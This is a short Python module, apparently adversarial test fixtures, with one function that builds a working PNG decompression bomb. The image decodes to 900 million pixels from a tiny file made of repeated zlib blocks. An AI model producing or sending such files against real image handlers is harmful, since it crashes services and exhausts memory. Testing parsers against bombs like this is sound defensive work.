"""Data sets as an enemy would publish them: small, and made to break whoever opens them."""

import struct
import zlib


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG of `side` x `side` black pixels, 900 million by default, in a thousandth of their bytes; sound in itself."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = side * (1 + 3 * side)
    block = 1 << 22
    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, wbits=-15)
    rest = last.compress(bytes(size % block)) + last.flush()
    adler = struct.pack(">I", (size % 65521) << 16 | 1)  # of zeros only
    body = b"\x78\xda" + piece * (size // block) + rest + adler
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
